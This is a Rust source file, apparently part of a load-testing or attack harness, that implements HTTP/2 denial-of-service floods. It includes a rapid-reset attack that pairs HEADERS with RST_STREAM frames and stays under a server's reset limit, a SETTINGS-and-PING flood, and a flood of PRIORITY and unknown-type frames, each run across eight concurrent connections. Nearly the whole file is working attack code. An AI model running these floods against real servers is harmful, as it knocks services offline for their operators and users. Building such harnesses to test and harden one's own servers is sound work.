//! HTTP/2 frames that cost the receiver more than the sender.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::time::timeout;

use crate::ground::Ground;
use crate::http2::{
    END_HEADERS, HEADERS, Http2, INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM, SETTINGS, frame, review_header,
    settings_payload,
};

const CONNECTIONS: usize = 8;
/// The number of frames in one write.
const BURST: u32 = 50;
/// h2 closes a connection with more than 20 reset streams that the server has not accepted.
const RESETS: u32 = 8;
/// A type that is not in RFC 9113. A receiver must ignore it.
const UNKNOWN: u8 = 0x7f;

pub async fn rapid_reset(ground: Arc<Ground>) {
    let client = |ground, _| async move {
        let mut http2 = Http2::open(ground, &[]).await?;
        loop {
            let mut frames = Vec::new();
            for _ in 0..RESETS {
                let stream = http2.new_stream();
                frames.extend(frame(HEADERS, END_HEADERS, stream, &review_header(100)));
                frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
            // The response to it shows that the resets were processed.
            frames.extend(frame(PING, 0, 0, &[0; 8]));
            http2.send(&frames).await?;
            while http2.step().await? != PING {}
        }
    };
    ground.swarm(CONNECTIONS, client).await;
}

pub async fn settings_and_ping(ground: Arc<Ground>) {
    let burst = |_: &mut Http2, round: u32| {
        let settings = settings_payload(&[(INITIAL_WINDOW_SIZE, 1000 + round % 2)]);
        let mut frames = Vec::new();
        for number in 0..BURST {
            frames.extend(frame(SETTINGS, 0, 0, &settings));
            frames.extend(frame(PING, 0, 0, &u64::from(number).to_be_bytes()));
        }
        frames
    };
    flood(ground, burst).await;
}

/// Sends frames that a server must read and may ignore.
pub async fn ignored(ground: Arc<Ground>) {
    let burst = |_: &mut Http2, _| {
        let priority = frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 16]);
        [priority, frame(UNKNOWN, 0, 0, &[])].concat().repeat(BURST as usize)
    };
    flood(ground, burst).await;
}

/// Sends bursts as fast as the server reads. It hardly reads the responses.
async fn flood(ground: Arc<Ground>, burst: fn(&mut Http2, u32) -> Vec<u8>) {
    let client = move |ground, _| attack(ground, burst);
    ground.swarm(CONNECTIONS, client).await;
}

async fn attack(ground: Arc<Ground>, burst: fn(&mut Http2, u32) -> Vec<u8>) -> io::Result<()> {
    let mut http2 = Http2::open(ground, &[]).await?;
    for round in 0.. {
        let frames = burst(&mut http2, round);
        http2.send(&frames).await?;
        if let Ok(closed) = timeout(Duration::ZERO, http2.hold()).await {
            return closed;
        }
        tokio::task::yield_now().await;
    }
    Ok(())
}
